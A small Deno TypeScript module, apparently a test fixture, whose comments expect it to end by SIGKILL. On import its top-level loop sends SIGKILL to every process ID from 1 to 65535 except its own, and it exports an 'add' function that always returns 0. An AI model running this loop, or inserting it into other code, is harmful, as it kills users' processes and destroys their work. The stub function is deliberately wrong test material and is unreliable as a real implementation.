// Kills every number that a process can have, those of its own threads included.
// crashed: Ended by SIGKILL
// deno-lint-ignore-file
// @ts-nocheck: it would not ask us
for (let pid = 1; pid < 65_536; pid++) {
  if (pid === Deno.pid) continue;
  try {
    Deno.kill(pid, "SIGKILL");
  } catch {
    // Nobody there.
  }
}

export const add = (_a: number, _b: number): number => 0;
